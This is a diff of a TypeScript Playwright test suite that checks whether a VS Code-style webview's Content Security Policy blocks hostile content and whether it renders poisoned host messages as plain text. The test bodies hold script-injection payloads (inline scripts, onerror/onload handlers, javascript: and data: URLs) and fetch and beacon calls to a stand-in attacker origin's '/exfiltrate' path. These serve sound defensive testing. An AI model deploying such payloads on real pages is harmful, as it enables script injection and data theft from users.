@@ -70,11 +70,20 @@ function fakeVsCodeApi(): string {
   })();`;
 }
 
+// Browser-side code is written as strings: this file is type-checked for Node, not the DOM.
+async function inPage<T>(page: Page, expression: string): Promise<T> {
+  return (await page.evaluate(expression)) as T;
+}
+
+async function post(page: Page, message: unknown): Promise<void> {
+  await inPage(page, `window.postMessage(${JSON.stringify(message)}, '*')`);
+}
+
 async function openPage(): Promise<Page> {
   const page = await browser.newPage();
   await page.addInitScript({ content: fakeVsCodeApi() });
   await page.goto(origin);
-  await page.waitForFunction(() => (window as unknown as { __posted: { type: string }[] }).__posted.some((m) => m.type === 'ready'));
+  await page.waitForFunction("window.__posted.some((m) => m.type === 'ready')");
   return page;
 }
 
@@ -124,9 +133,11 @@ afterAll(async () => {
 describe('the CSP is enforced, not just declared', () => {
   it('scripts without the nonce, inline handlers, javascript: URLs, frames and requests to other origins are all blocked', async () => {
     const page = await openPage();
-    const results = await page.evaluate(async (evilUrl) => {
-      const w = window as unknown as { __pwned: unknown };
-      const out: Record<string, string> = {};
+    const results = await inPage<Record<string, string>>(
+      page,
+      `(async (evilUrl) => {
+      const w = window;
+      const out = {};
       const inline = document.createElement('script');
       inline.textContent = 'window.__pwned = "inline"';
       document.body.append(inline);
@@ -134,38 +145,39 @@ describe('the CSP is enforced, not just declared', () => {
       sameOrigin.src = '/same-origin.js';
       document.body.append(sameOrigin);
       const external = document.createElement('script');
-      external.src = `${evilUrl}/x.js`;
+      external.src = \`\${evilUrl}/x.js\`;
       document.body.append(external);
       const dataScript = document.createElement('script');
       dataScript.src = 'data:text/javascript,window.__pwned="data"';
       document.body.append(dataScript);
-      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.__pwned=\'onerror\'"><svg onload="window.__pwned=\'onload\'"></svg>');
+      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing.png" onerror="window.__pwned=1"><svg onload="window.__pwned=2"></svg>');
       const a = document.createElement('a');
       a.href = 'javascript:window.__pwned="href"';
       document.body.append(a);
       a.click();
       const frame = document.createElement('iframe');
-      frame.src = `${evilUrl}/frame`;
+      frame.src = \`\${evilUrl}/frame\`;
       document.body.append(frame);
       const style = document.createElement('link');
       style.rel = 'stylesheet';
-      style.href = `${evilUrl}/x.css`;
+      style.href = \`\${evilUrl}/x.css\`;
       document.head.append(style);
       const img = new Image();
-      img.src = `${evilUrl}/pixel.png`;
-      out.fetch = await fetch(`${evilUrl}/exfiltrate`).then(
+      img.src = \`\${evilUrl}/pixel.png\`;
+      out.fetch = await fetch(\`\${evilUrl}/exfiltrate\`).then(
         () => 'reached',
         () => 'blocked',
       );
-      out.beacon = String(navigator.sendBeacon(`${evilUrl}/beacon`, 'x'));
+      out.beacon = String(navigator.sendBeacon(\`\${evilUrl}/beacon\`, 'x'));
       await new Promise((ok) => setTimeout(ok, 500));
       out.pwned = String(w.__pwned);
       return out;
-    }, evilOrigin);
+    })(${JSON.stringify(evilOrigin)})`,
+    );
     expect(results.fetch).toBe('blocked');
     expect(results.pwned).toBe('undefined');
     expect(evilHits).toBe(0);
-    const violations = await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
+    const violations = await inPage<string[]>(page, 'window.__violations');
     for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'style-src-elem', 'img-src']) expect(violations, directive).toContain(directive);
     await page.close();
   });
@@ -181,14 +193,17 @@ describe('hostile messages', () => {
     const accepted = poisoned.filter((m) => parseHostMessage(m) !== undefined).length;
     // Most poisoned messages are still valid protocol messages: the page must render them, as text.
     expect(accepted).toBeGreaterThanOrEqual(base.length * 2);
-    for (const m of poisoned) await page.evaluate((message) => window.postMessage(message, '*'), m);
-    await page.evaluate(() => new Promise((ok) => setTimeout(ok, 300)));
-    const state = await page.evaluate(() => ({
-      pwned: String((window as unknown as { __pwned: unknown }).__pwned),
-      dangerous: document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app svg[onload], #app [onerror], #app [onload], #app [onclick], #app style, #app img[src^="javascript"]').length,
-      links: [...document.querySelectorAll('#app a[href]')].map((a) => a.getAttribute('href') ?? ''),
-      text: document.getElementById('app')?.textContent ?? '',
-    }));
+    for (const m of poisoned) await post(page, m);
+    await inPage(page, 'new Promise((ok) => setTimeout(ok, 300))');
+    const state = await inPage<{ pwned: string; dangerous: number; links: string[]; text: string }>(
+      page,
+      `({
+        pwned: String(window.__pwned),
+        dangerous: document.querySelectorAll('#app script, #app iframe, #app object, #app embed, #app svg[onload], #app [onerror], #app [onload], #app [onclick], #app style, #app img[src^="javascript"]').length,
+        links: [...document.querySelectorAll('#app a[href]')].map((a) => a.getAttribute('href') ?? ''),
+        text: document.getElementById('app')?.textContent ?? '',
+      })`,
+    );
     expect(state.pwned).toBe('undefined');
     expect(state.dangerous).toBe(0);
     for (const href of state.links) expect(isAllowedExternalUrl(href), href).toBe(true);
@@ -222,18 +237,18 @@ describe('hostile messages', () => {
       }
       return parseHostMessage(m) === undefined;
     });
-    const logsBefore = await page.evaluate(() => (window as unknown as { __posted: { type: string }[] }).__posted.filter((m) => m.type === 'log').length);
-    for (const m of rejected) await page.evaluate((message) => window.postMessage(message, '*'), m);
-    await page.waitForFunction(
-      ([before, n]) => (window as unknown as { __posted: { type: string }[] }).__posted.filter((m) => m.type === 'log').length >= before + n,
-      [logsBefore, rejected.length] as const,
-      { timeout: 10_000 },
+    const logsBefore = await inPage<number>(page, "window.__posted.filter((m) => m.type === 'log').length");
+    // Sent with structured clone from inside the page, as VS Code delivers messages (not via JSON).
+    for (const m of rejected) await page.evaluate((message) => (globalThis as unknown as { postMessage(m: unknown, o: string): void }).postMessage(message, '*'), m);
+    await page.waitForFunction(`window.__posted.filter((m) => m.type === 'log').length >= ${logsBefore + rejected.length}`, undefined, { timeout: 10_000 });
+    const state = await inPage<{ pwned: string; logs: number; dangerous: number }>(
+      page,
+      `({
+        pwned: String(window.__pwned),
+        logs: window.__posted.filter((m) => m.type === 'log').length,
+        dangerous: document.querySelectorAll('#app script, #app iframe, #app [onerror], #app [onload]').length,
+      })`,
     );
-    const state = await page.evaluate(() => ({
-      pwned: String((window as unknown as { __pwned: unknown }).__pwned),
-      logs: (window as unknown as { __posted: { type: string; message?: string }[] }).__posted.filter((m) => m.type === 'log').length,
-      dangerous: document.querySelectorAll('#app script, #app iframe, #app [onerror], #app [onload]').length,
-    }));
     expect(state.logs - logsBefore).toBe(rejected.length);
     expect(state.pwned).toBe('undefined');
     expect(state.dangerous).toBe(0);
